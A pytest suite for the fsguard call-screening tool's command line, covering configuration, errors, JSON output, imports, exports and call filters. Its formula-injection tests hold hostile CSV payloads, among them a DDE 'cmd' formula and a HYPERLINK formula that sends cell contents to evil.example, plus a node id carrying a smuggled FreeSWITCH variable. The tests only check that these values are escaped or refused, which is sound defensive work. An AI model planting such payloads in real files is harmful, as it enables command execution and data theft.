"""What a new user and an operator trip over (issue 17), through the real ``fsguard`` entry point
(``fsguard.ops.cli.main`` in-process, or ``python -m fsguard`` where a real pipe or process matters),
on SQLite and PostgreSQL where a database is involved."""

from __future__ import annotations

import argparse
import json
import os
import socket
import subprocess
import sys
from pathlib import Path
from typing import Callable

import pytest
from sqlalchemy import inspect

from fsguard.ops import cli
from fsguard.store import migrate
from fsguard.config import DatabaseSettings
from fsguard.store.db import Database
from fsguard_testing.fakeswitch import Caller
from test_recording import cli_env, settle  # noqa: F401 - fixtures and waits of the recording tests
from test_recording import run as run_recording  # noqa: F401

REPO = Path(__file__).resolve().parent.parent


def clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for key in list(os.environ):
        if key.startswith("FSGUARD_"):
            monkeypatch.delenv(key)


@pytest.fixture
def run(monkeypatch, capsys) -> Callable[..., tuple[int, str, str]]:
    """``fsguard ARGV...`` in-process with the environment as set by the test; (exit code, stdout, stderr)."""
    clean_env(monkeypatch)
    monkeypatch.setenv("USER", "alice")

    def run(*argv: str) -> tuple[int, str, str]:
        capsys.readouterr()
        try:
            code = cli.main(list(argv))
        except SystemExit as exc:   # argparse usage errors
            code = int(exc.code or 0)
        out, err = capsys.readouterr()
        return code, out, err
    return run


@pytest.fixture
def fsguard(run, settings, db, monkeypatch) -> Callable[..., tuple[int, str, str]]:
    """``run`` against the test database (SQLite and PostgreSQL)."""
    monkeypatch.setenv("FSGUARD_DATABASE_URL", settings.database.url)
    monkeypatch.setenv("FSGUARD_RECORDING_DIR", settings.recording.dir)
    return run


def one_line_error(err: str, *needles: str) -> str:
    """The command's own error: the last line of stderr, starting with ``fsguard:``, no traceback."""
    assert "Traceback" not in err, err
    line = err.strip().splitlines()[-1]
    assert line.startswith("fsguard: "), err
    for needle in needles:
        assert needle in line, line
    return line


# ------------------------------------------------------------ 1: default paths


def test_the_defaults_are_absolute_whatever_the_working_directory(run, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, out, _ = run("config", "show")
    assert code == 0
    assert 'url = "sqlite:////var/lib/fsguard/fsguard.db"' in out
    assert 'dir = "/var/lib/fsguard/recordings"' in out
    assert list(tmp_path.iterdir()) == []


def test_a_command_on_a_missing_database_creates_nothing_and_says_to_upgrade(run, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "state" / "fsguard.db"
    monkeypatch.setenv("FSGUARD_DATABASE_URL", f"sqlite:///{path}")
    for argv in (["calls"], ["lists", "show"], ["db", "current"]):
        code, out, err = run(*argv)
        assert code == 1 and out == ""
        one_line_error(err, f"no database at {path}", "fsguard db upgrade")
    # upgrade creates the file, but never the directory (it would belong to whoever ran it)
    code, _, err = run("db", "upgrade")
    assert code == 1
    one_line_error(err, f"the directory {path.parent} does not exist")
    assert list(tmp_path.iterdir()) == []
    path.parent.mkdir()
    code, out, _ = run("db", "upgrade")
    assert code == 0 and path.exists() and out.startswith("migrated the database from empty to ")
    code, out, _ = run("calls")
    assert code == 0


@pytest.mark.parametrize("variable, value, problem", [
    ("FSGUARD_DATABASE_URL", "sqlite:///var/fsguard.db", "names the relative path 'var/fsguard.db'"),
    ("FSGUARD_RECORDING_DIR", "var/recordings", "recording.dir: must be an absolute path"),
    ("FSGUARD_DATABASE_URL", "mysql://fsguard@db/fsguard", "fsguard works with sqlite:/// and postgresql://"),
])
def test_a_path_or_database_fsguard_cannot_use_is_refused_by_config_check(run, tmp_path, monkeypatch, variable,
                                                                            value, problem):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv(variable, value)
    for argv in (["config", "check"], ["db", "current"], ["calls"]):
        code, out, err = run(*argv)
        assert code == 2 and out == ""
        one_line_error(err, "configuration error", problem)
    assert list(tmp_path.iterdir()) == []


def test_a_stage_no_one_has_stops_serve_and_config_check_with_one_line(run, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("FSGUARD_DATABASE_URL", f"sqlite:///{tmp_path / 'fsguard.db'}")
    monkeypatch.setenv("FSGUARD_POLICY_STAGES", "screening,screnning,routing")
    code, out, err = run("serve", "--listen", "127.0.0.1:0")
    assert code == 1 and out == ""   # as config check says it: the stages are the code's, not a value's form
    one_line_error(err, "configuration error: policy.stages: unknown stage 'screnning' (known: screening, ")
    assert list(tmp_path.iterdir()) == []   # stopped before the database was looked for
    code, out, err = run("config", "check")
    assert code == 1 and out == ""
    assert one_line_error(err).count("policy.stages") == 1


def test_make_run_keeps_the_checkouts_state_in_var(tmp_path):
    """``make run`` with a stand-in ``fsguard`` that prints what it was given."""
    fake = tmp_path / "fsguard"
    fake.write_text('#!/bin/sh\necho "$* $FSGUARD_DATABASE_URL $FSGUARD_RECORDING_DIR"\n')
    fake.chmod(0o755)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("FSGUARD_", "MAKE"))}
    made = subprocess.run(["make", "-s", "-o", "install", "run", f"BIN={tmp_path}"], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=60)
    assert made.returncode == 0, made.stderr
    var = REPO.resolve() / "var"
    assert made.stdout.splitlines() == [f"db upgrade sqlite:///{var}/fsguard.db {var}/recordings",
                                        f"serve sqlite:///{var}/fsguard.db {var}/recordings"]


def test_the_unit_and_the_install_steps_use_the_same_state_directory():
    unit = (REPO / "conf" / "systemd" / "fsguard.service").read_text()
    assert "StateDirectory=fsguard" in unit and "WorkingDirectory=/var/lib/fsguard" in unit
    assert "install -d -o fsguard -g fsguard -m 0750 /var/lib/fsguard" in unit
    from fsguard.config import Settings

    defaults = Settings()
    assert defaults.database.sqlite_path == Path("/var/lib/fsguard/fsguard.db")
    assert Path(defaults.recording.dir).parent == Path("/var/lib/fsguard")


# ------------------------------------------------------------- 7: tracebacks


@pytest.mark.parametrize("argv, problem", [
    (["db", "upgrade", "0001x"], "no migration '0001x'"),
    (["db", "downgrade", "9999"], "no migration '9999'"),
])
def test_an_unknown_revision_is_one_line(fsguard, db, argv, problem):
    code, out, err = fsguard(*argv)
    assert code == 1 and out == ""
    one_line_error(err, problem, "known: base, 0001")
    assert migrate.current(db) == migrate.head()


def test_downgrade_to_base_needs_yes(run, tmp_path, monkeypatch):
    path = tmp_path / "fsguard.db"
    monkeypatch.setenv("FSGUARD_DATABASE_URL", f"sqlite:///{path}")
    assert run("db", "upgrade")[0] == 0
    code, out, err = run("db", "downgrade", "base")
    assert code == 1 and out == ""
    one_line_error(err, "drops every table", "--yes")
    db = Database(DatabaseSettings(url=f"sqlite:///{path}"))
    try:
        assert "calls" in inspect(db.engine).get_table_names()
        code, out, _ = run("db", "downgrade", "base", "--yes", "--json")
        assert code == 0 and json.loads(out) == {"before": migrate.head(), "after": None, "head": migrate.head(),
                                                 "changed": True}
        assert "calls" not in inspect(db.engine).get_table_names()
    finally:
        db.dispose()


def test_db_upgrade_says_whether_it_migrated(run, tmp_path, monkeypatch):
    monkeypatch.setenv("FSGUARD_DATABASE_URL", f"sqlite:///{tmp_path}/fsguard.db")
    code, out, _ = run("db", "upgrade", "0004")
    assert (code, out.strip()) == (0, f"migrated the database from empty to 0004 (head {migrate.head()})")
    code, out, _ = run("db", "upgrade")
    assert out.strip() == f"migrated the database from 0004 to {migrate.head()} (head {migrate.head()})"
    code, out, _ = run("db", "upgrade")
    assert out.strip() == f"the database is already at {migrate.head()} (head); nothing to do"


def test_the_esl_port_in_use_is_one_line(fsguard, tmp_path):
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        code, out, err = fsguard("serve", "--listen", f"127.0.0.1:{port}")
    assert code == 1
    one_line_error(err, f"esl.listen 127.0.0.1:{port}: cannot listen", "in use")


def test_a_reader_that_goes_away_is_not_a_traceback(fsguard, settings, tmp_path):
    numbers = [f"+1212555{n:04d}" for n in range(1500)]
    source = tmp_path / "big.csv"
    source.write_text("number,kind,level,reason\n" + "".join(f"{n},block,3,a reason long enough to fill a pipe\n"
                                                            for n in numbers))
    assert fsguard("lists", "import", str(source))[0] == 0
    env = {**os.environ, "FSGUARD_DATABASE_URL": settings.database.url}
    piped = subprocess.run(f"{sys.executable} -m fsguard lists show --json | head -c 100 >/dev/null",
                           shell=True, env=env, capture_output=True, text=True, timeout=120)
    assert piped.stderr == ""


# ------------------------------------------------------- 4: machine-readable


#: commands that change nothing and print a document of their own (TOML, CSV) or serve
WITHOUT_JSON = {"serve", "config example", "config show", "lists export", "customers export"}


def leaf_commands(parser: argparse.ArgumentParser, path: tuple[str, ...] = ()):
    subs = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
    if not subs:
        yield " ".join(path), parser
        return
    for name, sub in subs[0].choices.items():
        yield from leaf_commands(sub, (*path, name))


def test_every_command_has_json_output():
    missing = [name for name, parser in leaf_commands(cli.build_parser())
               if name not in WITHOUT_JSON and "--json" not in {o for a in parser._actions for o in a.option_strings}]
    assert missing == []


def test_json_output_is_alone_on_stdout_with_the_log_on_stderr(settings, db, tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("FSGUARD_")}
    env.update(FSGUARD_DATABASE_URL=settings.database.url, FSGUARD_RECORDING_DIR=settings.recording.dir,
               FSGUARD_LOGGING_FORMAT="json")
    stderr = {}
    for argv in (["erase", "+12125550147", "--json"], ["lists", "purge", "--json"], ["db", "current", "--json"]):
        done = subprocess.run([sys.executable, "-m", "fsguard", *argv], env=env, capture_output=True, text=True,
                              timeout=120, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        json.loads(done.stdout)      # nothing but the JSON document
        stderr[argv[0]] = done.stderr
    # ... while the log went to stderr, as JSON lines
    assert any(json.loads(line).get("event", "").startswith("erasure") for line in stderr["erase"].splitlines()
               if line.startswith("{")), stderr["erase"]


def test_a_commands_json_has_one_shape_whatever_its_arguments(fsguard):
    fsguard("lists", "add", "+12125550147", "--block", "7", "--reason", "abusive")
    everything = json.loads(fsguard("lists", "show", "--json")[1])
    one = json.loads(fsguard("lists", "show", "+12125550147", "--json")[1])
    assert set(everything) == set(one) == {"number", "dnis", "applies", "entries", "counts"}
    assert everything["entries"] == one["entries"]
    fsguard("customers", "add", "+12125550123", "--account", "A-1")
    assert isinstance(json.loads(fsguard("customers", "show", "--json")[1]), list)
    assert [c["account_id"] for c in json.loads(fsguard("customers", "show", "+12125550123", "--json")[1])] == ["A-1"]
    added = json.loads(fsguard("lists", "add", "+13125550100", "--allow", "--json")[1])
    assert set(added) == {"entry", "replaced", "from_call"}


def test_changing_commands_answer_in_json(fsguard, tmp_path):
    assert json.loads(fsguard("lists", "purge", "--json")[1]) == {"counters": 0, "entries": 0}
    source = tmp_path / "in.csv"
    source.write_text("number,kind,level\n+12125550147,block,7\nnot a number,block,7\n")
    code, out, _ = fsguard("lists", "import", str(source), "--skip-bad", "--json")
    report = json.loads(out)
    assert (code, report["rows"], report["imported"], [b["line"] for b in report["bad"]]) == (0, 2, 1, [3])
    removed = json.loads(fsguard("lists", "remove", "+12125550147", "--json")[1])
    assert [e["number"] for e in removed["removed"]] == ["+12125550147"]
    frozen = json.loads(fsguard("outbound", "freeze", "+12125550147", "--reason", "complaint", "--json")[1])
    assert frozen["frozen"]["number"] == "+12125550147" and frozen["replaced"] == []
    lifted = json.loads(fsguard("outbound", "unfreeze", "+12125550147", "--json")[1])
    assert [f["number"] for f in lifted["lifted"]] == ["+12125550147"]


# ------------------------------------------------------------ 5: wrong input


@pytest.mark.parametrize("argv", [
    ["erase", "123"],
    ["erase", "123", "--dry-run"],
    ["outbound", "freeze", "123", "--reason", "x"],
    ["lists", "add", "123", "--block", "7"],
])
def test_a_string_that_is_no_telephone_number_is_refused_by_every_command(fsguard, db, argv):
    code, out, err = fsguard(*argv)
    assert code == 1 and out == ""
    one_line_error(err, "'123' is not a valid telephone number (region US)")


def test_lists_and_outbound_accept_the_same_numbers(fsguard):
    # a number of possible length in a range phonenumbers does not list as assigned (+1 555 ...)
    assert fsguard("lists", "add", "+1 555 765 4321", "--block", "3")[0] == 0
    assert fsguard("outbound", "freeze", "+1 555 765 4321", "--reason", "complaint")[0] == 0
    assert json.loads(fsguard("lists", "show", "+15557654321", "--json")[1])["applies"]["number"] == "+15557654321"


@pytest.mark.parametrize("argv", [["calls", "--limit", "-5"], ["calls", "--limit", "0"],
                                  ["recordings", "list", "--limit", "-1"], ["lists", "show", "--limit", "-1"]])
def test_a_negative_limit_is_refused(fsguard, argv):
    code, out, err = fsguard(*argv)
    assert code == 2 and out == "" and "--limit" in err and "Traceback" not in err


# ------------------------------------------------------------ 6: uuid prefixes


def test_an_ambiguous_uuid_prefix_is_refused_with_the_candidates(fsguard, fs, db):
    first = fs.call(Caller(uuid="369a7b00-0000-4000-8000-000000000001", ani="+12125550147"))
    second = fs.call(Caller(uuid="369a7b11-0000-4000-8000-000000000002", ani="+13125550100"))
    code, out, err = fsguard("lists", "add", "--from-call", "369a7b", "--block", "7")
    assert code == 1 and out == ""
    line = one_line_error(err, "'369a7b' matches 2 calls", first.uuid, second.uuid, "give more of the uuid")
    assert "+12125550147" in line and "+13125550100" in line
    assert json.loads(fsguard("lists", "show", "--json")[1])["entries"] == []
    code, out, _ = fsguard("lists", "add", "--from-call", "369a7b1", "--block", "7")
    assert code == 0 and "+13125550100" in out
    code, _, err = fsguard("calls", "show", "369a7b")
    one_line_error(err, "matches 2 calls")


def test_a_too_short_prefix_says_how_long_it_must_be(fsguard, fs):
    fs.call(Caller(uuid="afbb0000-0000-4000-8000-000000000001"))
    code, _, err = fsguard("calls", "show", "afbb")
    assert code == 1
    one_line_error(err, "no call afbb", "at least its first 6 characters")
    assert fsguard("calls", "show", "afbb00")[0] == 0
    _, out, _ = fsguard("calls", "show", "--help")
    assert "at least 6 characters" in out


# ------------------------------------------------------------ 9: consistency


def test_config_check_reports_every_problem_and_unknown_variables(run, tmp_path, monkeypatch):
    bad = tmp_path / "bad.toml"
    bad.write_text('[esl]\nlisten = "x"\nmax_calls = "many"\n[http]\ntoken = "short"\n[bogus]\na = 1\n')
    monkeypatch.setenv("FSGUARD_ESL_LISTN", "0.0.0.0:8084")
    code, out, err = run("-c", str(bad), "config", "check")
    assert code == 2 and out == "" and "Traceback" not in err
    lines = err.strip().splitlines()
    assert "fsguard: warning: FSGUARD_ESL_LISTN: names no setting (ignored); see 'fsguard config example' " \
           "for the settings" in lines
    problems = [line for line in lines if line.startswith("fsguard: configuration error: ")]
    assert [p.split(": ")[2] for p in problems] == ["esl.max_calls", "bogus", "esl.listen", "http.token"]
    report = json.loads(run("-c", str(bad), "config", "check", "--json")[1])
    assert report["ok"] is False and len(report["problems"]) == 4 and report["warnings"][0].startswith("FSGUARD_ESL_LISTN")
    # any other command stops at one line that counts the rest
    code, _, err = run("-c", str(bad), "calls")
    one_line_error(err, "esl.max_calls: expected an integer", "and 3 more problem(s)", "config check")


def test_a_node_id_that_would_break_freeswitchs_commands_is_refused_by_config_check(run, monkeypatch):
    # the id goes as it is into uuid_setvar_multi's name=value;... list and the end watcher's filter
    monkeypatch.setenv("FSGUARD_NODE_ID", "node-1;socket_resume=true")
    code, out, err = run("config", "check")
    assert code == 2 and out == "" and "Traceback" not in err
    assert "node.id: letters, digits, '.', '_' and '-' only" in err
    monkeypatch.setenv("FSGUARD_NODE_ID", "fs-node-1.example")
    assert run("config", "check")[0] == 0


# ------------------------------------------------------------ 8: finding calls


@pytest.fixture
def screened(settings, start_guard):
    """fsguard with screening and routing, and the simulator pointed at it."""
    from fsguard_testing.fakeswitch import FakeFreeSWITCH

    settings.policy.stages = ["screening", "routing"]
    return FakeFreeSWITCH(start_guard().address, time_scale=0.005)


def test_calls_filters_find_the_calls_an_operator_looks_for(fsguard, screened, db):
    reason = "threatened an agent on 2026-11-30; police reference 2026/114 - keep blocked until the case is closed"
    fsguard("lists", "add", "+12125550147", "--block", "7", "--reason", reason)
    blocked = screened.call(Caller(ani="+12125550147", dnis="+18005550100"))
    passed = screened.call(Caller(ani="+13125550100", dnis="5000"))
    assert (blocked.outcome, passed.outcome) == ("hungup", "routed")   # the simulator's view of the channel

    def uuids(*argv: str) -> list[str]:
        code, out, err = fsguard("calls", *argv, "--json")
        assert code == 0, err
        return [c["uuid"] for c in json.loads(out)]

    assert uuids() == [passed.uuid, blocked.uuid]
    assert uuids("--ani", "(212) 555-0147") == [blocked.uuid]
    assert uuids("--dnis", "1 800 555 0100") == [blocked.uuid]
    assert uuids("--dnis", "5000") == [passed.uuid]
    assert uuids("--outcome", "rejected") == [blocked.uuid]
    assert uuids("--stage", "screening") == [blocked.uuid]
    assert uuids("--code", "blocklist.hard") == [blocked.uuid]
    assert uuids("--code", "blocklist.*") == [blocked.uuid]
    assert uuids("--code", "flood.*") == []
    assert uuids("--since", "1h") == [passed.uuid, blocked.uuid]
    assert uuids("--until", "1h") == []
    assert uuids("--since", "2000-01-01", "--outcome", "routed", "--limit", "1") == [passed.uuid]

    code, out, _ = fsguard("calls")
    header, *rows = out.splitlines()
    assert header.split()[:8] == ["started", "(UTC)", "uuid", "caller", "dialled", "dir", "outcome", "why"]
    [row] = [r for r in rows if blocked.uuid in r]
    assert "rejected  screening: blocklist.hard  CALL_REJECTED" in row
    # lists show keeps the whole reason: it is the answer to "why"
    assert reason in fsguard("lists", "show")[1]


def test_calls_filters_refuse_what_they_cannot_read(fsguard):
    code, out, err = fsguard("calls", "--since", "last tuesday")
    assert code == 1 and out == ""
    one_line_error(err, "--since: expected a duration", "'last tuesday'")
    code, _, err = fsguard("calls", "--outcome", "bogus")
    assert code == 2 and "invalid choice: 'bogus'" in err


def test_both_imports_take_skip_invalid(fsguard, tmp_path):
    numbers_csv = tmp_path / "lists.csv"
    numbers_csv.write_text("number,kind,level\n+12125550147,block,7\nnot a number,block,7\n")
    code, out, _ = fsguard("lists", "import", str(numbers_csv), "--skip-invalid")
    assert code == 0 and out.startswith("imported 1 entries from 2 rows")
    customers_csv = tmp_path / "customers.csv"
    customers_csv.write_text("number,name\n+12125550123,Ada\nnot a number,Bob\n")
    code, out, _ = fsguard("customers", "import", str(customers_csv), "--skip-invalid")
    assert code == 0 and "1 customer(s) added" in out
    for area in ("lists", "customers"):
        _, help_text, _ = fsguard(area, "import", "--help")
        assert "--skip-invalid" in help_text and "--skip-bad" not in help_text


def test_every_command_records_the_os_user(fsguard, db, monkeypatch):
    import pwd

    for var in ("USER", "LOGNAME", "LNAME", "USERNAME", "SUDO_USER"):
        monkeypatch.delenv(var, raising=False)   # as under cron or systemd
    me = pwd.getpwuid(os.getuid()).pw_name
    fsguard("lists", "add", "+12125550147", "--block", "7")
    fsguard("outbound", "freeze", "+13125550100", "--reason", "complaint")
    entry = json.loads(fsguard("lists", "show", "+12125550147", "--json")[1])["entries"][0]
    frozen = json.loads(fsguard("outbound", "frozen", "--json")[1])[0]
    assert entry["added_by"] == frozen["created_by"] == me
    monkeypatch.setenv("SUDO_USER", "bob")
    fsguard("lists", "add", "+14155550123", "--allow")
    assert json.loads(fsguard("lists", "show", "+14155550123", "--json")[1])["entries"][0]["added_by"] == "bob"


def test_simulate_call_prints_words_not_python(fsguard, settings, start_guard):
    settings.policy.stages = ["screening", "routing"]
    host, port = start_guard().address
    code, out, err = fsguard("simulate", "--target", f"{host}:{port}", "--time-scale", "0.01", "call",
                             "--ani", "+13125550100")
    assert code == 0, err
    assert "outcome: routed" in out and "exported: " in out
    assert not any(mark in out for mark in ("['", "{'", "True", "False")), out


# ----------------------------------------- issue 16 item 7: formula injection

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)", "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


def csv_cells(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text)))


def test_formula_unit_rules():
    from fsguard.rules.spreadsheet import looks_like_formula, safe_cell, unescape_cell

    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula and unescape_cell(safe_cell(formula)) == formula
    for plain in ("+12125550147", "-5", "3.5", "Ada Lovelace", "", "it's = fine", "'quoted"):
        assert not looks_like_formula(plain) and safe_cell(plain) == plain and unescape_cell(plain) == plain


def test_lists_export_writes_formulas_as_text_and_import_reads_them_back(fsguard, tmp_path):
    for i, formula in enumerate(FORMULAS):
        assert fsguard("lists", "add", f"+1212555{i:04d}", "--block", "7", "--reason", formula)[0] == 0
    code, out, _ = fsguard("lists", "export")
    assert code == 0
    header, *rows = csv_cells(out)
    reason = header.index("reason")
    cells = {row[0]: row[reason] for row in rows}
    for i, formula in enumerate(FORMULAS):
        stored = " ".join(formula.split())          # a reason is kept on one line
        assert cells[f"+1212555{i:04d}"] == "'" + stored   # a number keeps its +; the formula is text
    exported = tmp_path / "list.csv"
    exported.write_text(out)
    fsguard("lists", "remove", "+12125550000")
    assert fsguard("lists", "import", str(exported))[0] == 0
    again = {e["number"]: e["reason"] for e in json.loads(fsguard("lists", "show", "--json")[1])["entries"]}
    assert again["+12125550000"] == FORMULAS[0] and again["+12125550003"] == "@SUM(1+1)"


@pytest.mark.parametrize("argv, problem", [
    (["lists", "add", "+12125550147", "--block", "7", "--dnis", "=1+1"], "dnis '=1+1': expected a dialled number"),
    (["lists", "add", "+12125550147", "--block", "7", "--dnis", "+1abc"], "expected a dialled number"),
    (["customers", "add", "+12125550123", "--account", "=1+1"], "account_id '=1+1' cannot start with"),
    (["customers", "add", "+12125550123", "--account", "A-1", "--region", "@SUM(1+1)"], "region '@SUM(1+1)'"),
])
def test_a_formula_is_refused_where_the_field_cannot_hold_one(fsguard, argv, problem):
    code, out, err = fsguard(*argv)
    assert code == 1 and out == ""
    one_line_error(err, problem)


def test_a_formula_in_an_import_is_a_bad_row(fsguard, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("number,kind,level,dnis\n+12125550147,block,7,=1+1\n+13125550100,block,7,5000\n")
    code, out, err = fsguard("lists", "import", str(source), "--json", "--skip-invalid")
    report = json.loads(out)
    assert report["imported"] == 1 and [b["line"] for b in report["bad"]] == [2]
    assert "=1+1" in report["bad"][0]["problem"]


def test_customers_export_writes_a_name_formula_as_text_and_import_reads_it_back(fsguard, tmp_path):
    name = '=HYPERLINK("http://evil.example","x")'
    assert fsguard("customers", "add", "+12125550123", "--name", name, "--account", "A-1", "--vip")[0] == 0
    code, out, _ = fsguard("customers", "export")
    assert code == 0
    assert csv_cells(out) == [["number", "name", "account", "vip", "queue", "agent", "region"],
                              ["+12125550123", "'" + name, "A-1", "yes", "", "", ""]]
    exported = tmp_path / "customers.csv"
    exported.write_text(out)
    fsguard("customers", "remove", "--account", "A-1")
    assert fsguard("customers", "import", str(exported))[0] == 0
    [customer] = json.loads(fsguard("customers", "show", "--json")[1])
    assert (customer["name"], customer["account_id"], customer["vip"]) == (name, "A-1", True)


def test_calls_csv_writes_a_caller_controlled_name_as_text(fsguard, screened):
    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    result = screened.call(Caller(ani="+13125550100", name=name))
    code, out, _ = fsguard("calls", "--csv")
    assert code == 0
    header, *rows = csv_cells(out)
    [row] = [r for r in rows if r[header.index("uuid")] == result.uuid]
    assert row[header.index("caller_name")] == "'" + name
    assert row[header.index("ani")] == "+13125550100"


def test_recordings_csv_writes_an_operators_formula_as_text(run_recording, cli_env, capsys):
    guard, fs = run_recording(mode="all")
    result = fs.call(Caller(ani="+13125550100"))
    settle(guard)
    reason = "=HYPERLINK(\"http://evil.example\",\"case\")"
    assert cli.main(["recordings", "hold", result.uuid, "--reason", reason]) == 0
    capsys.readouterr()
    assert cli.main(["recordings", "list", "--csv"]) == 0
    header, row = csv_cells(capsys.readouterr().out)
    assert row[header.index("uuid")] == result.uuid and row[header.index("number")] == "+13125550100"
    assert row[header.index("hold_reason")] == "'" + reason


# ------------------------------------------------- 10: the shipped consent prompt


def test_the_shipped_consent_prompt_is_a_small_8khz_mono_wav():
    import wave

    from fsguard.config import Settings, packaged_sound

    default = Settings().recording.consent_prompt
    assert default == "fsguard:consent-en.wav"
    path = Path(packaged_sound(default))
    assert path.is_absolute() and path.parent.name == "sounds" and path.parent.parent.name == "fsguard"
    with wave.open(str(path)) as sound:
        assert (sound.getframerate(), sound.getnchannels(), sound.getsampwidth()) == (8000, 1, 2)
        assert 1.0 < sound.getnframes() / sound.getframerate() < 6.0
    assert path.stat().st_size < 100_000
    assert (REPO / "scripts" / "make-consent-prompt.sh").read_text().count("espeak-ng") >= 2


def test_out_of_the_box_a_call_hears_fsguards_notice_and_is_recorded(settings, start_guard, db):
    from fsguard.config import Settings, packaged_sound
    from test_recording import RecordingFreeSWITCH, recording_of

    settings.policy.stages = ["recording", "routing"]
    settings.recording.consent_prompt = Settings().recording.consent_prompt   # the default, untouched
    guard = start_guard()
    result = RecordingFreeSWITCH(guard.address, time_scale=0.005, max_call_time=100_000).call(
        Caller(ani="15551234567"))
    settle(guard)
    notice = packaged_sound("fsguard:consent-en.wav")
    assert ("playback", notice) in result.apps and notice in result.heard
    assert recording_of(db, result.uuid) is not None


def test_an_unknown_packaged_sound_is_a_configuration_error(run, monkeypatch):
    monkeypatch.setenv("FSGUARD_RECORDING_CONSENT_PROMPT", "fsguard:consent-fr.wav")
    code, _, err = run("config", "check")
    assert code == 2
    assert "recording.consent_prompt: fsguard ships no sound 'consent-fr.wav' (shipped: consent-en.wav)" in err


def test_config_freeswitch_writes_the_snippets_for_this_nodes_listener(run, tmp_path, monkeypatch):
    monkeypatch.setenv("FSGUARD_ESL_LISTEN", "10.0.0.5:8090")
    code, out, _ = run("config", "freeswitch", str(tmp_path / "fs"))
    assert code == 0 and out.count("wrote ") == 5
    public = (tmp_path / "fs" / "dialplan" / "public_fsguard.xml").read_text()
    assert 'data="10.0.0.5:8090 async full"' in public and "fallback XML queues" in public
    event_socket = (tmp_path / "fs" / "autoload_configs" / "event_socket.conf.xml").read_text()
    assert '<param name="listen-port" value="8021"/>' in event_socket        # esl.inbound's port
    assert "$${fsguard_socket}" not in public and "lab_esl_port" not in event_socket
    (tmp_path / "fs" / "dialplan" / "queues.xml").write_text("<!-- mine -->")
    code, out, err = run("config", "freeswitch", str(tmp_path / "fs"), "--listen", "10.0.0.6:8084", "--json")
    report = json.loads(out)
    assert code == 0 and len(report["written"]) == 0 and len(report["kept"]) == 5
    assert (tmp_path / "fs" / "dialplan" / "queues.xml").read_text() == "<!-- mine -->"
    monkeypatch.setenv("FSGUARD_ESL_LISTEN", "0.0.0.0:8084")
    code, _, err = run("config", "freeswitch", str(tmp_path / "other"))
    assert code == 1
    one_line_error(err, "is every address", "--listen HOST:PORT")


# ------------------------------------------------------------ 11: the CRM client


def test_the_http_crm_reuses_one_kept_alive_connection(settings, start_guard, db):
    """Three callers the CRM is asked about (no cache can answer): one TCP connection, not three
    handshakes on the calls' way to the queue."""
    from gevent import pywsgi

    from fsguard_testing.fakeswitch import FakeFreeSWITCH

    ports: list[str] = []

    def app(environ, start_response):
        ports.append(environ["REMOTE_PORT"])
        number = environ["PATH_INFO"].rsplit("/", 1)[-1].replace("%2B", "+")
        if number == "+13125550100":
            start_response("200 OK", [("Content-Type", "application/json")])
            return [json.dumps({"id": "CRM-1", "vip": True}).encode()]
        start_response("404 Not Found", [("Content-Type", "application/json")])
        return [b'{"error": "unknown number"}']

    server = pywsgi.WSGIServer(("127.0.0.1", 0), app, log=None, error_log=None)
    server.start()
    try:
        settings.routing.crm_url = f"http://127.0.0.1:{server.server_port}/customers/{{number}}"
        fs = FakeFreeSWITCH(start_guard(settings).address, time_scale=0.005)
        routes = [fs.call(Caller(ani=ani)).route for ani in ("+13125550100", "+14155550123", "+12025550143")]
    finally:
        server.stop(timeout=0)
    assert routes == ["callcenter vip@default", "transfer default XML queues", "transfer default XML queues"]
    assert len(ports) == 3 and len(set(ports)) == 1, ports


def test_a_large_import_shows_progress_bars_on_a_terminal_only(settings, db, tmp_path):
    import pty
    import select
    import time

    source = tmp_path / "big.csv"
    source.write_text("number,kind,level\n" + "".join(f"+1212{n:07d},block,3\n" for n in range(2_000_000, 2_025_000)))
    env = {k: v for k, v in os.environ.items() if not k.startswith("FSGUARD_")}
    env.update(FSGUARD_DATABASE_URL=settings.database.url, FSGUARD_RECORDING_DIR=settings.recording.dir)
    primary, secondary = pty.openpty()        # stderr is a terminal, stdout a file
    import fcntl
    import struct
    import termios

    fcntl.ioctl(secondary, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 100, 0, 0))   # a terminal has a size
    out = tmp_path / "out.txt"
    chunks = []
    try:
        with out.open("wb") as stdout:
            child = subprocess.Popen([sys.executable, "-m", "fsguard", "lists", "import", str(source)], env=env,
                                     stdout=stdout, stderr=secondary, stdin=subprocess.DEVNULL)
        os.close(secondary)
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline:   # read as it comes: a full terminal would stop the child
            ready, _, _ = select.select([primary], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(primary, 65536)
                except OSError:               # EIO: the child is gone and its terminal closed
                    break
                if not chunk:
                    break
                chunks.append(chunk)
            elif child.poll() is not None:
                break
        code = child.wait(timeout=30)
    finally:
        os.close(primary)
    terminal = b"".join(chunks).decode(errors="replace")
    assert code == 0 and out.read_text().strip() == "imported 25000 entries from 25000 rows"
    assert "validated" in terminal and "written" in terminal and "rows" in terminal, terminal
    assert "20.0k" in terminal or "20000" in terminal, terminal   # tqdm's count of the rows so far
